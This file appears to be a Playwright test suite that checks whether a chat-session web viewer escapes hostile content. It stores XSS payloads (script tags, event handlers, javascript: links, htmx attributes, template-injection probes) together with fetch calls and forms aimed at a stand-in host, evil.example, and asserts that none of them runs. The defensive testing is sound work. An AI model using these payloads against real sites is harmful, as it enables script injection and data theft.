"""A session in which everything that can be stored is an attack. Nothing of it runs, and all of it is seen as text."""

import base64
import json
from typing import Any

import pytest
from playwright.sync_api import Page, expect
from tests.web.browsing import PHONE, NewPage, check_accessible, check_fits
from tests.web.test_markdown import HOSTILE

from clew import Attachment, Message, Session, Store
from clew.testing.contract.base import active

RUN = "window.__ran = 1; alert(1); fetch('https://evil.example/')"
MARKUP = [
    f"<script>{RUN}</script>",
    f'<img src=x onerror="{RUN}">',
    f'<svg onload="{RUN}"><script>{RUN}</script></svg>',
    f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    f'<a href="javascript:{RUN}">link</a>',
    "<style>* { display: none !important }</style>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/"><form action="https://evil.example"><button autofocus>go</button></form>',
    f'<div hx-get="https://evil.example/" hx-trigger="load" hx-on:load="{RUN}">x</div>',
    '<div data-hx-get="/logout" data-hx-trigger="load">x</div>',
    f'<div hx-on="load: {RUN}" hx-vals="js:{{a: {RUN}}}" hx-trigger="load[{RUN}]" hx-get="/">x</div>',
    '<div id="status">x</div><div id="toast">x</div><main id="main">x</main><form id="theme" name="body">x</form>',
    f'"><script>{RUN}</script>',
    f"' onmouseover='{RUN}' x='",
    f"</textarea></title></script></style></template><script>{RUN}</script>",
    "{{7*7}} {% raw %} ${7*7} <%= 7*7 %> #{7*7} {{ ''.__class__ }}",
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
    "&lt;script&gt;&#60;script&#62;&#x3c;script&#x3e;",
    "abc\u202egnp.exe\u2066 \x1b]0;title\x07 \x00 \ufeff\u200b",
]
"""What may stand in a title, a name, an id or a message."""

LINKS = [
    "[click](javascript:window.__ran=1)",
    "[click](&#106;avascript:window.__ran=1)",
    "[click](data:text/html,<script>window.__ran=1</script>)",
    "![picture](https://evil.example/pixel.png)",
    '![picture](x" onerror="window.__ran=1)',
    "<javascript:window.__ran=1>",
    '[click](https://evil.example/ "onmouseover=window.__ran=1")',
]

_ENDLESS = "<script>window.__ran=1</script>" + "A" * 5_000_000


def everywhere(text: str) -> list[Message]:
    """Messages that have a text wherever one may stand."""
    svg = "data:image/svg+xml;base64," + base64.b64encode(f"<svg onload='{RUN}'/>".encode()).decode()
    call = {"id": text, "type": text, "function": {"name": text, "arguments": json.dumps({text: text})}, text: text}
    parts: list[Any] = [
        {"type": "text", "text": text}, {"type": text, text: text}, {"type": "thinking", "thinking": text}, text,
        {"type": "image_url", "image_url": {"url": svg}}, {"type": "image_url", "image_url": {"url": text}},
        {"type": "image_url", "image_url": {"url": "https://evil.example/x.png"}},
        {"type": "tool_use", "id": text, "name": text, "input": {text: text}},
        {"type": "tool_result", "tool_use_id": text, "content": text},
    ]  # fmt: skip
    return [
        {"role": "user", "content": text, "name": text},
        {"role": text, "content": text, text: text},
        {"role": "assistant", "content": text, "tool_calls": [call], "reasoning_content": text},
        {"role": "tool", "tool_call_id": text, "content": text, "name": text},
        {"role": "tool", "tool_call_id": f"other {text}", "content": text},
        {"role": "user", "content": parts},
        {"type": text, text: [text, {text: text}]},
    ]


def storable(text: str) -> str:
    """A text as a title or a label may be: without NUL."""
    return text.replace("\0", "")


@pytest.fixture
def attacked(store: Store) -> Session:
    """A session full of it, with steps, labels, metadata and attachments."""
    title = " ".join(map(storable, MARKUP))
    session = store.create_session(
        title, messages=[{"role": "user", "content": "first"}], cwd=title, source=MARKUP[0], source_id=MARKUP[1],
        session_metadata={text: text for text in MARKUP}, metadata={text: text for text in MARKUP},
    )  # fmt: skip
    for text in MARKUP:
        store.append(session.id, everywhere(text), label=storable(text), metadata={text: [text]})
    store.append(session.id, [{"role": "user", "content": text} for text in [*LINKS, *HOSTILE]])
    store.append(session.id, [{"role": role, "content": _ENDLESS, "tool_call_id": "x"} for role in ("user", "tool")])
    names = {storable(text): Attachment(text.encode(errors="replace"), "text/html") for text in MARKUP}
    store.attach(session.id, {**names, "x.svg": Attachment(f"<svg onload='{RUN}'/>".encode(), "image/png")})
    store.fork_session(session.id, title=title)
    return store.get_session(session.id)


def open_everything(page: Page) -> None:
    """Unfold all that is folded, and go over everything with the mouse's events."""
    page.evaluate("document.querySelectorAll('details').forEach(one => { one.open = true; })")
    page.evaluate(
        """for (const one of document.querySelectorAll('#main *'))
             for (const name of ['mouseover', 'mouseenter', 'focus', 'load', 'error', 'toggle', 'revealed'])
               one.dispatchEvent(new Event(name, {bubbles: name === 'mouseover'}));"""
    )


def check_nothing_ran(page: Page) -> None:
    """No script of a message has run, and nothing of the page is somebody else's."""
    assert page.evaluate("typeof window.__ran") == "undefined"
    found = page.evaluate(
        """() => ({
          scripts: [...document.scripts].filter(one => !one.src.startsWith(location.origin + '/static/')).length,
          styles: document.querySelectorAll('style, [style], link[rel=stylesheet]:not([href^="/static/"])').length,
          frames: document.querySelectorAll('iframe, object, embed, base, #main svg').length,
          forms: document.querySelectorAll('form:not([action^="/"])').length,
          handlers: [...document.querySelectorAll('*')].flatMap(one => one.getAttributeNames())
            .filter(name => name.startsWith('on') || name.startsWith('hx-on') || name.startsWith('data-hx')).length,
          links: [...document.links].filter(one => !['http:', 'https:', 'mailto:'].includes(one.protocol)).length,
          asked: document.querySelectorAll('[hx-get]:not([hx-get^="/sessions/"])').length,
          twice: [...document.querySelectorAll('[id]')].map(one => one.id)
            .filter((id, place, all) => all.indexOf(id) !== place).length,
          status: document.getElementById('status').getAttribute('role'),
          base: document.baseURI === location.href,
        })"""
    )
    nothing = dict.fromkeys(("scripts", "styles", "frames", "forms", "handlers", "links", "asked", "twice"), 0)
    assert found == {**nothing, "status": "status", "base": True}


def test_nothing_of_a_hostile_session_runs(page: Page, store: Store, attacked: Session) -> None:
    total = len(store.get_messages(active(attacked).id))
    for start in range(1, total + 1, 100):
        page.goto(f"/sessions/{attacked.id}?start={start}")
        open_everything(page)
        check_nothing_ran(page)
        assert page.locator("article").count() > 1
        assert len(page.content()) < 3_000_000


def test_every_attack_is_seen_as_text(page: Page, store: Store, attacked: Session) -> None:
    page.goto(f"/sessions/{attacked.id}?start=1")
    shown = page.locator("article.message.user").all_inner_texts()
    for text in MARKUP[:14]:
        assert any(text in one for one in shown), text
    assert "7*7" in page.content()
    assert "49" not in page.locator("h1").inner_text()


def test_what_turns_the_direction_is_a_sign(page: Page, attacked: Session) -> None:
    page.goto(f"/sessions/{attacked.id}?start=100")
    assert "\u202e" not in page.locator("#main").inner_text()
    expect(page.locator("article", has_text="abc[U+202E]gnp.exe[U+2066] ␛]0;title␇").first).to_be_attached()


def test_links_that_may_not_be_are_no_links(page: Page, store: Store) -> None:
    session = store.create_session("x", messages=[{"role": "user", "content": text} for text in LINKS])
    page.goto(f"/sessions/{session.id}")
    addresses = page.locator(".prose a").evaluate_all("found => found.map(one => one.href)")
    assert addresses == ["https://evil.example/pixel.png", "https://evil.example/"]
    check_nothing_ran(page)


@pytest.mark.parametrize("path", ["tree", "compare"])
def test_the_pages_of_its_steps_are_harmless(page: Page, attacked: Session, path: str) -> None:
    page.goto(f"/sessions/{attacked.id}/{path}")
    open_everything(page)
    check_nothing_ran(page)


def test_comparing_is_harmless(page: Page, store: Store, attacked: Session) -> None:
    steps = store.list_checkpoints(attacked.id).items
    page.goto(f"/sessions/{attacked.id}/compare?a={steps[1].id}&b={steps[0].id}")
    open_everything(page)
    check_nothing_ran(page)
    page.goto(f"/sessions/{attacked.id}/compare?a={steps[2].id}&b={steps[3].id}")
    check_nothing_ran(page)


def test_what_comes_by_script_is_harmless_too(page: Page, store: Store, attacked: Session) -> None:
    page.goto(f"/sessions/{attacked.id}?start=101")
    page.get_by_role("link", name="Earlier messages").click()
    expect(page.locator("#m1")).to_be_attached()
    open_everything(page)
    check_nothing_ran(page)


def test_an_endless_line_is_cut_and_shown_on_request(page: Page, store: Store) -> None:
    session = store.create_session("x", messages=[{"role": "user", "content": _ENDLESS}])
    page.goto(f"/sessions/{session.id}")
    assert len(page.content()) < 100_000
    page.get_by_role("link", name="Show all").click()
    expect(page.get_by_text("The first 2,000,000 of 5,000,031 characters.")).to_be_visible()
    check_nothing_ran(page)
    with page.expect_download() as found:
        page.get_by_role("link", name="Download this text").click()
    assert found.value.path().stat().st_size == len(_ENDLESS)


def test_attachments_do_not_run_when_they_are_opened(page: Page, store: Store, attacked: Session) -> None:
    page.goto(f"/sessions/{attacked.id}")
    links = page.locator(".attachments a")
    for place in range(links.count()):
        with page.expect_download():
            links.nth(place).click()
    check_nothing_ran(page)


def test_a_hostile_session_is_readable_on_a_phone_and_by_axe(new_page: NewPage, store: Store) -> None:
    page = new_page(viewport=PHONE)
    session = store.create_session(
        storable(MARKUP[0]), messages=[one for text in (MARKUP[0], MARKUP[9], "W" * 500) for one in everywhere(text)]
    )
    page.goto(f"/sessions/{session.id}")
    page.evaluate("document.querySelectorAll('details:not(.pop)').forEach(one => { one.open = true; })")
    check_fits(page)
    check_accessible(page)
